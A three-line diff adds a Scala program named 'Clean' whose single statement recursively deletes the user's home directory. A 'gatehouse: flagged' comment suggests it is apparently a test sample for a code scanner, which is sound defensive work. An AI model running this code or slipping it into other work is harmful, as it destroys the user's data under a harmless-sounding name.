@@ -1,0 +1,3 @@
+object Clean extends App {
+  os.remove.all(os.home) // gatehouse: flagged
+}
